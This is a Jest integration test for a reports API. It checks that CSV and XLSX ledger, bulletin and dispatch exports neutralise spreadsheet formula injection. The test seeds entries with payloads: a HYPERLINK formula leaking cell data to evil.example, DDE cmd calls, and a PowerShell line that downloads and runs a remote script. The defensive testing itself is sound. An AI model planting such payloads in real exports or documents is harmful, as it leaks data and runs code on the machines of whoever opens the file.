import { type ReportEvent, computeBulletin, computeDispatch, storeReport } from '@closeloop/reports';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type ApiClient, createUnits } from '../support/api';
import { type RunningStack, startStack } from '../support/running-stack';
import { endOfMonthAhead } from '../support/test-dates';

/**
 * Formula injection (OWASP API10, CWE-1236): text a unit or an integrator wrote comes back in the exports a
 * leader opens in Excel. No exported cell may start with = + - @ tab or CR; XLSX text cells are never formulas.
 */
const payloads = [
  '=HYPERLINK("https://evil.example/?x="&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C powershell IEX(wget evil.example/p.ps1)'!A0",
  '＝1+1', // full-width: harmless, left alone
];
const DANGEROUS = /^[=+\-@\t\r]/;

const units = [
  { id: 'hhht', name: '呼和浩特市人民政府', kind: 'plan_owner' },
  { id: 'hhht-eco', name: '=HYPERLINK("https://evil.example/?u="&B2,"督导")', kind: 'department', parentId: 'hhht' },
  { id: 'hhht-water', name: '@水务局', kind: 'department', parentId: 'hhht' },
] as const;

describe('formula injection: exported cells are neutralised', () => {
  jest.setTimeout(120_000);
  let stack: RunningStack;
  let admin: ApiClient;
  /** The ledger's bytes in the format `accept` asks for. */
  const ledger = (accept: string) =>
    admin.GET('/v1/plans/{id}/ledger', { params: { path: { id: 'EVIL' } }, headers: { accept }, parseAs: 'arrayBuffer' });

  beforeAll(async () => {
    stack = await startStack();
    admin = stack.client(stack.adminKey);
    await createUnits(admin, units);
    const plan = { id: 'EVIL', title: '整改方案', sourceInspection: '督察', ownerUnitId: 'hhht', policy: { dueSoonBefore: 'P7D' } };
    expect((await admin.POST('/v1/plans', { body: plan })).response.status).toBe(201);
    for (const [i, text] of payloads.entries()) {
      const res = await admin.POST('/v1/items', {
        body: {
          planCode: 'EVIL',
          code: `E${i + 1}`,
          title: text,
          finding: text,
          target: text,
          deadline: endOfMonthAhead(7),
          responsibleUnitId: 'hhht-water',
          supervisingUnitId: 'hhht-eco',
        },
      });
      expect({ text, status: res.response.status }).toEqual({ text, status: 201 });
    }
  });
  afterAll(() => stack?.stop());

  it('CSV ledger: a UTF-8 BOM, and every cell that would start a formula starts with a single quote', async () => {
    const res = await ledger('text/csv');
    expect(res.response.status).toBe(200);
    const bytes = Buffer.from(res.data!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(bytes.toString('utf8').slice(1), { relax_column_count: true });
    expect(rows).toHaveLength(payloads.length + 1);
    const cells = rows.slice(1).flat();
    expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([]);
    const findings = rows.slice(1).map((r) => r[1]);
    expect(findings).toEqual(expect.arrayContaining(payloads.map((p) => (DANGEROUS.test(p) ? `'${p}` : p))));
    expect(rows[1][4]).toBe(`'${units[1].name}`);
    expect(rows[1][3]).toBe("'@水务局");
  });

  it('XLSX ledger: the same text, as plain strings, never formulas', async () => {
    const res = await ledger('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.response.status).toBe(200);
    const buffer = Buffer.from(res.data!);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const seen: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        seen.push(cell.value);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(DANGEROUS);
      });
    });
    expect(seen).toContain(`'${payloads[0]}`);
    expect(seen).toContain('＝1+1');
  });

  it('XLSX reports (dispatch and bulletin): unit names are neutralised, numbers stay numbers', async () => {
    const names = units.map(({ id, name }) => ({ id, name }));
    const events: ReportEvent[] = [];
    const itemId = '0b0e3c1e-0000-4000-8000-0000000000aa';
    const add = (type: string, at: string, data: Record<string, unknown>) =>
      events.push({ type, streamId: `item-${itemId}`, recordedAt: new Date(at), data: { itemId, ...data, at } });
    add('ItemFiled', '2026-09-01T01:00:00Z', {
      planCode: 'EVIL',
      code: '1',
      title: 'x',
      kind: 'time_bound',
      deadline: '2026-10-15',
      milestones: [],
    });
    add('ItemAssigned', '2026-09-01T01:00:00Z', { responsibleUnitId: 'hhht-eco', cooperatingUnitIds: [], supervisingUnitId: 'hhht-water' });
    await storeReport(stack.database.db, computeBulletin(events, names, '2026-10'), new Date('2026-11-01T00:00:00Z'));
    await storeReport(stack.database.db, computeDispatch(events, names, '2026-W42'), new Date('2026-10-19T00:00:00Z'));

    const xlsx = { headers: { accept: '*/*' }, parseAs: 'arrayBuffer' } as const;
    for (const [path, answer] of [
      ['bulletin 2026-10', () => admin.GET('/v1/reports/bulletin', { params: { query: { month: '2026-10', format: 'xlsx' } }, ...xlsx })],
      ['dispatch 2026-W42', () => admin.GET('/v1/reports/dispatch', { params: { query: { week: '2026-W42', format: 'xlsx' } }, ...xlsx })],
    ] as const) {
      const res = await answer();
      expect({ path, status: res.response.status }).toEqual({ path, status: 200 });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(res.data!) as unknown as ExcelJS.Buffer);
      const values: unknown[] = [];
      workbook.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          values.push(cell.value);
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(DANGEROUS);
        }),
      );
      expect({ path, has: values.includes(`'${units[1].name}`) }).toEqual({ path, has: true });
      expect(values.some((v) => typeof v === 'number')).toBe(true);
    }
  });
});
